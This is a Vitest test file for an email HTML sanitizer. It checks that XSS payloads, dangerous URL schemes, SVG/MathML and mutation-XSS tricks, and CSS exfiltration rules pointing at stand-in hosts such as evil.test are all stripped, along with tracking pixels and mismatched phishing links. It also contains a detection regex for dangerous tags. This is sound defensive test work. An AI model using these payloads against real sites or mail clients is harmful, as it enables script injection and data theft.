// One test per attack class of issue #5 against the one sanitizer entry point; the hostile
// .eml corpus (e2e/fixtures/hostile) runs through it again in hostile-corpus.test.ts.
import { describe, expect, it } from "vitest";
import { sanitizeMailHtml, type SanitizeMailHtmlOptions } from "@/lib/sanitize/sanitize-mail-html";

const proxied = (url: string) => `/api/image-proxy?url=${encodeURIComponent(url)}`;
const options = (extra: Partial<SanitizeMailHtmlOptions> = {}): SanitizeMailHtmlOptions => ({
  allowRemote: false,
  inlineImageUrl: () => null,
  remoteImageUrl: proxied,
  ...extra,
});
const clean = (html: string, extra: Partial<SanitizeMailHtmlOptions> = {}) =>
  sanitizeMailHtml(html, options(extra));
const cleanHtml = (html: string, extra: Partial<SanitizeMailHtmlOptions> = {}) =>
  clean(html, extra).html;

/** Nothing in the output may run, load a script, or switch the parser into foreign content. */
function expectInert(html: string): void {
  expect(html).not.toMatch(
    /<(?:script|svg|math|iframe|frame|object|embed|applet|form|input|button|textarea|select|base|meta|link|template|noscript|xmp|title|animate|set|foreignobject|annotation)\b/i,
  );
  expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:text|srcdoc|formaction/i);
}

describe("scripts in every spelling", () => {
  it.each([
    ["upper case", `<SCRIPT>alert(1)</SCRIPT><p>ok</p>`],
    ["mixed case with attributes", `<ScRiPt type="text/javascript">alert(1)</sCrIpT>ok`],
    ["nested to survive one pass", `<scr<script>ipt>alert(1)</scr</script>ipt>ok`],
    ["inside a comment", `<!--<script>alert(1)</script>-->ok`],
    ["a comment ended the other way", `<!-- --!><script>alert(1)</script> -->ok`],
    ["CDATA", `<![CDATA[<script>alert(1)</script>]]>ok`],
    ["never closed", `<p>ok</p><script>alert(1)`],
    ["with a slash", `<script/src="https://evil.test/x.js"></script>ok`],
    ["null byte in the name", `<scr\u0000ipt>alert(1)</scr\u0000ipt>ok`],
    ["inside a style attribute", `<p style="x:expression(alert(1))">ok</p>`],
  ])("%s", (_, input) => {
    const html = cleanHtml(input);
    expectInert(html);
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain("ok");
  });
});

describe("event handlers", () => {
  it.each([
    `<img src=x onerror=alert(1)>`,
    `<img src="x" OnError = "alert(1)">`,
    `<img/src=x/onerror=alert(1)>`,
    "<img src=x\tonerror\n=\nalert(1)>",
    `<body onload='alert(1)'>`,
    `<div onmouseover="alert(1)" style="height:100px">`,
    `<a autofocus onfocus="alert(1)" href="https://example.test/">`,
    `<details open ontoggle=alert(1)>`,
    `<p onclick=&#97;&#108;&#101;&#114;&#116;(1)>`,
  ])("%s", (input) => {
    expectInert(cleanHtml(input + "ok"));
  });
});

describe("dangerous URL schemes", () => {
  it.each([
    `<a href="&#x6A;avascript:alert(1)">x</a>`,
    `<a href="java&#x0A;script:alert(1)">x</a>`,
    `<a href="java&Tab;script:alert(1)">x</a>`,
    `<a href="&#0000106avascript:alert(1)">x</a>`,
    `<a href=" \u0001javascript:alert(1)">x</a>`,
    `<a href="VBScript:msgbox(1)">x</a>`,
    `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
    `<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>`,
    `<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">`,
    `<img src="javascript:alert(1)" alt="x">`,
    `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
    `<p style="background:url('javascript:alert(1)')">x</p>`,
  ])("%s", (input) => {
    const html = cleanHtml(input);
    expectInert(html);
    expect(html).not.toContain("svg");
    expect(html).toContain("x");
  });
});

describe("SVG and MathML", () => {
  it.each([
    `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`,
    `<svg><set attributeName="onload" to="alert(1)"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>`,
    `<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  ])("drops the whole foreign element: %s", (input) => {
    const html = cleanHtml(input + "<p>after</p>");
    expectInert(html);
    expect(html).toBe("<p>after</p>");
  });
});

describe("mutation XSS: nothing is left for the browser to re-parse into markup", () => {
  it.each([
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
    `<style><img src=x onerror=alert(1)></style>`,
    `<title><img src=x onerror=alert(1)></title>`,
    `<textarea><img src=x onerror=alert(1)></textarea>`,
    `<template><img src=x onerror=alert(1)></template>`,
    `<xmp><img src=x onerror=alert(1)></xmp>`,
    `<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>`,
    `<svg><style><img src=x onerror=alert(1)></style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<p title="</p><img src=x onerror=alert(1)>">x</p>`,
  ])("%s", (input) => {
    const html = cleanHtml(input);
    expectInert(html);
    // Any "<img" left is text (escaped), never a tag with a handler.
    expect(html).not.toMatch(/<img[^>]*onerror/i);
  });
});

describe("forms, frames, objects and page-level tags", () => {
  it("keeps no control that could submit or navigate", () => {
    const html = cleanHtml(
      `<form action="https://evil.test/"><input name=pw><button formaction="https://evil.test/">Go</button>` +
        `<input type="submit" formaction="javascript:alert(1)"></form>` +
        `<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">` +
        `<object data="https://evil.test/x"></object><embed src="https://evil.test/x"><frameset><frame src="https://evil.test/"></frameset>` +
        `<iframe src="https://evil.test/"></iframe><portal src="https://evil.test/"></portal>ok`,
    );
    expectInert(html);
    expect(html).toBe("Gook");
  });
});

describe("CSS cannot overlay content or load anything unasked", () => {
  it.each([
    ["fixed full-screen", "position:fixed;top:0;left:0;width:100%;height:100%"],
    ["huge z-index", "position:relative;z-index:2147483647"],
    ["negative margins", "margin-top:-5000px;margin-left:-9999px"],
    ["transform", "transform:translate(0,-400px) scale(10)"],
    ["custom property smuggling", "--p:fixed;position:var(--p)"],
    ["a box as tall as the growing frame", "height:100vh;min-height:100dvh"],
  ])("drops %s", (_, style) => {
    const html = cleanHtml(`<div style="${style};color:red">x</div>`);
    expect(html).not.toMatch(/position:(?!relative)|z-index|-5000|-9999|transform|vh/);
    expect(html).toContain("color:red");
  });

  it("drops attribute-selector exfiltration, @import, remote fonts and image-set", () => {
    const result = clean(
      `<style>input[value^=a]{background:url(https://evil.test/a)}` +
        `@import url(https://evil.test/x.css);` +
        `@font-face{font-family:x;src:url(https://evil.test/f.woff)}` +
        `p{background-image:image-set("https://evil.test/i.png" 1x);color:red}</style>`,
    );
    expect(result.html).toBe("<style>p{color:red}</style>");
    expect(result.remoteBlocked).toBe(1);
  });

  it("never loads remote fonts, even with remote content allowed", () => {
    const html = cleanHtml(
      `<style>@font-face{font-family:x;src:url(https://fonts.test/f.woff2)}</style><p style="font-family:x">x</p>`,
      { allowRemote: true },
    );
    expect(html).not.toContain("fonts.test");
  });
});

describe("remote images go through the proxy", () => {
  it("replaces every remote source with the proxy's URL", () => {
    const html = cleanHtml(
      `<img src="https://a.test/1.png" width="100"><td background="https://a.test/2.png">x</td>` +
        `<p style="background:url(https://a.test/3.png)">y</p>`,
      { allowRemote: true },
    );
    expect(html).not.toMatch(/"https:\/\/a\.test/);
    for (const n of [1, 2]) expect(html).toContain(proxied(`https://a.test/${n}.png`));
    expect(html).toContain(`url(&quot;${proxied("https://a.test/3.png")}&quot;)`);
  });

  it("drops a remote image the proxy will not serve", () => {
    const html = cleanHtml(
      `<img src="https://a.test/1.png" alt="one"><p style="background:url(https://a.test/2.png);color:red">x</p>`,
      { allowRemote: true, remoteImageUrl: () => null },
    );
    expect(html).toBe(`<img alt="one" /><p style="color:red">x</p>`);
  });

  it("escapes whatever the proxy answers in CSS", () => {
    const html = cleanHtml(`<style>p{background:url(https://a.test/x.png)}</style>`, {
      allowRemote: true,
      remoteImageUrl: () => `/p?u="x")}body{color:red`,
    });
    expect(html).toBe(`<style>p{background:url("/p?u=\\22 x\\22 )}body{color:red")}</style>`);
  });
});

describe("tracking pixels", () => {
  it("removes them whether or not remote content is allowed, and counts them", () => {
    const input =
      `<p>x</p><img src="https://t.test/a.gif" width="1" height="1">` +
      `<img src="https://t.test/b.png" style="display:none" alt="b">` +
      `<img src="https://t.test/wf/open?upn=1">` +
      `<img src="https://img.test/photo.jpg" width="300" alt="photo">`;
    for (const allowRemote of [false, true]) {
      const result = clean(input, { allowRemote });
      expect(result.trackers).toBe(3);
      expect(result.remoteBlocked).toBe(allowRemote ? 0 : 1);
      expect(result.html).not.toMatch(/t\.test|alt="b"/);
      expect(result.html).toContain(`alt="photo"`);
    }
  });

  it("does not count inline or data: images as trackers", () => {
    const result = clean(`<img src="data:image/gif;base64,R0lGOD==" width="1" height="1" alt="">`);
    expect(result.trackers).toBe(0);
  });
});

describe("link text that claims another host", () => {
  it("adds a marker with the real host right after the link", () => {
    const html = cleanHtml(
      `<a href="https://bank-evil.example/login">https://bank.example/login</a>!`,
    );
    expect(html).toBe(
      `<a href="https://bank-evil.example/login" target="_blank" rel="noopener noreferrer" title="https://bank-evil.example/login">https://bank.example/login</a>` +
        `<span data-link-mismatch>⚠ Link goes to bank-evil.example</span>!`,
    );
  });

  it.each([
    ["www.bank.example", "https://evil.example/"],
    ["bank.example", "https://bank.example.evil.example/"],
    ["<b>bank.example</b>", "https://evil.example/"],
  ])("flags %s linking to %s", (text, href) => {
    expect(cleanHtml(`<a href="${href}">${text}</a>`)).toContain("data-link-mismatch");
  });

  it.each([
    ["bank.example", "https://www.bank.example/login"],
    ["Log in", "https://evil.example/"],
    ["help@bank.example", "mailto:help@evil.example"],
  ])("leaves %s linking to %s alone", (text, href) => {
    expect(cleanHtml(`<a href="${href}">${text}</a>`)).not.toContain("data-link-mismatch");
  });

  it("uses the caller's label, escaped", () => {
    const html = cleanHtml(`<a href="https://evil.example/">bank.example</a>`, {
      linkMismatchLabel: (host) => `<b>実際のリンク先: ${host}</b>`,
    });
    expect(html).toContain(
      `<span data-link-mismatch>&lt;b&gt;実際のリンク先: evil.example&lt;/b&gt;</span>`,
    );
  });

  it("adds no marker when asked not to (HTML the user edits)", () => {
    const html = cleanHtml(`<a href="https://evil.example/">bank.example</a>`, {
      linkMismatchLabel: null,
    });
    expect(html).not.toContain("data-link-mismatch");
  });

  it("cannot be faked or steered by the sender", () => {
    const html = cleanHtml(
      `<span data-link-mismatch>⚠ Link goes to bank.example</span>` +
        `<p>x data-tegami-link="0" y</p><a href="https://bank.example/">bank.example</a>` +
        `<style>a{}</style><a href="https://evil.example/" data-tegami-link="0">bank.example</a>`,
    );
    expect(html.match(/<span data-link-mismatch>/g)).toHaveLength(1);
    expect(html).toContain(`<span>⚠ Link goes to bank.example</span>`);
    expect(html).toContain(`evil.example/">bank.example</a><span data-link-mismatch>`);
  });

  it("marks each of nested links against its own text", () => {
    const html = cleanHtml(
      `<a href="https://a.example/">Read <a href="https://evil.example/">b.example</a> more</a>`,
    );
    expect(html.match(/data-link-mismatch/g)).toHaveLength(1);
  });
});
